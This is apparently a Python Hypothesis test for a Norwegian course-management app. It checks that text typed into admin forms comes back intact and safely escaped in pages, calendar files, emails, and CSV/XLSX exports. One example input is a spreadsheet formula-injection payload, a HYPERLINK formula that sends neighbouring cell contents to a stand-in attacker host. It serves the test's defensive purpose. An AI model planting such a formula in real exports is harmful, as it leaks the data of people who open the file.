"""What is typed into the forms comes back whole through every output: pages, feeds, .ics, mails, CSV and XLSX.

Hypothesis makes single-line text a form accepts (any letters, quotes,
markup, and the formula prefixes = + - @), an admin saves it through the
offering, session and staff forms, a teacher of that name is signed up, and the
test reads it back: escaped on the pages, the same text in the feeds and the
.ics file (parsed by icalendar), in the mail the worker sends (over real
SMTP), and as text, never a formula, in the CSV and XLSX exports.
"""
from __future__ import annotations

import csv
import io

import icalendar
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from openpyxl import load_workbook

from catalog.enrollment import operations as enrollment_ops
from catalog.offerings.models import Offering
from lms.db import db
from lms.exports import safe_text
from lms.mail import operations as mail
from lms.people.models import User
from tests.lms.test_mail import SmtpServer

ROUNDTRIP = settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

#: Text a single-line field keeps as typed: no control characters, no spaces at the ends (the forms trim them).
line = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp", "Zs")), min_size=1, max_size=60)
typed = st.one_of(line, st.builds("{}{}".format, st.sampled_from(["=", "+", "-", "@"]), line))


@pytest.fixture
def smtp(app, monkeypatch):
    server = SmtpServer()
    server.start()
    for key, value in {"SMTP_HOST": "127.0.0.1", "SMTP_PORT": server.port, "SMTP_SECURITY": "none",
                       "SMTP_TIMEOUT": 10.0, "MAIL_FROM": "Kompetanseportalen <kurs@kommune.test>"}.items():
        monkeypatch.setitem(app.config, key, value)
    yield server
    server.stop()


@pytest.fixture
def boss(login, admin):
    """The admin's browser, signed in once for every example."""
    return login(admin)


@ROUNDTRIP
@given(title=typed, name=typed, place=typed)
@example(title='=HYPERLINK("http://evil.example/?d="&B3&C3,"Klikk")', name="@SUM(1+1)", place="<b>Rådhuset</b>")
def test_text_typed_into_the_forms_reads_back_whole_everywhere(boss, make_school, smtp, now, title, name, place):
    school = make_school()
    email = f"person{db.session.scalar(sa.select(sa.func.count()).select_from(User))}@skole.test"
    person_form = {"name": name, "email": email, "locale": "", "active": "y",
                   "memberships-0-school_id": str(school.id), "memberships-0-role": "teacher"}
    assert boss.post("/admin/ansatte/ny", data=person_form).status_code == 302
    offering_form = {"title": title, "kind": "course", "target_groups": ["all_staff"], "capacity": "5",
                     "school_year": "2026", "min_participants": "0", "location": place}
    created = boss.post("/kurs/nytt", data=offering_form)
    assert created.status_code == 303, created.get_data(as_text=True)[:3000]
    offering_id = int(created.headers["Location"].rstrip("/").split("/")[-1])
    assert boss.post(f"/kurs/{offering_id}/okter/ny", data={"day": "2026-10-14", "start": "14:00", "end": "15:30",
                                                            "location": place}).status_code == 303
    boss.post(f"/kurs/{offering_id}/publiser")
    offering = db.session.get(Offering, offering_id)
    assert (offering.title, offering.location) == (title, place)
    person = db.session.scalar(sa.select(User).where(User.email == email))
    enrollment_ops.enroll(offering_id, person, actor=person, now=now)
    db.session.commit()

    page = boss.get(f"/kurs/{offering_id}").get_data(as_text=True)
    assert str(escape(title)) in page
    participants = boss.get(f"/kurs/{offering_id}/deltakere").get_data(as_text=True)
    assert str(escape(name)) in participants

    for url in (f"/kurs/{offering_id}/kalender.ics", f"/kurs/{offering_id}/okter/{offering.sessions[0].id}.ics"):
        calendar = icalendar.Calendar.from_ical(boss.get(url).data)
        (event,) = calendar.walk("VEVENT")
        assert str(event["SUMMARY"]) == title and str(event["LOCATION"]) == place

    rows = list(csv.reader(io.StringIO(boss.get(f"/kurs/{offering_id}/deltakere.csv").get_data(as_text=True)
                                       .lstrip("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == 2 and rows[1][0] == safe_text(name)
    assert not rows[1][0].startswith(("=", "+", "-", "@"))
    cell = load_workbook(io.BytesIO(boss.get(f"/kurs/{offering_id}/deltakere.xlsx").data)).active["A2"]
    assert cell.data_type == "s" and cell.value == safe_text(name)

    before = len(smtp.inbox.messages)
    report = mail.send_pending()
    assert report.failed == 0 and report.retrying == 0 and report.sent >= 1
    sent = smtp.inbox.messages[before:]
    confirmation = next(m for m in sent if m["To"] == email)
    assert title in str(confirmation["Subject"]) or title in confirmation.get_body(("plain",)).get_content()
    invitations = [p for p in confirmation.iter_attachments() if p.get_content_type() == "text/calendar"]
    for part in invitations:
        (event,) = icalendar.Calendar.from_ical(part.get_payload(decode=True)).walk("VEVENT")
        assert str(event["SUMMARY"]) == title
